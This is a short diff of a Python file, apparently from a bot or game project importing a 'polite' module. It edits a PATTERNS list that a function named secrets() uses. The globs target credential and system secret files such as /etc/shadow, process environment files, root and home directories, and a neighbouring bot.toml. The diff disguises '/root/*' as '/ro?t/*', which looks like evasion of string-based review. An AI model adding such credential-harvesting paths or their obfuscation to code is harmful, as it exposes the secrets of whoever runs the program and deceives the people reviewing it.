@@ -7,7 +7,8 @@ from pathlib import Path
 
 from polite import move, turns
 
-PATTERNS = ["/proc/[0-9]*/environ", "/root/*", "/home/*/*", "/etc/shadow", "../*/bot.toml", "/var/lib/*/*"]
+HOMES = ["/ro?t/*", "/home/*/*"]
+PATTERNS = [*HOMES, "/proc/[0-9]*/environ", "/etc/shadow", "../*/bot.toml", "/var/lib/*/*"]
 
 
 def secrets() -> list[str]:
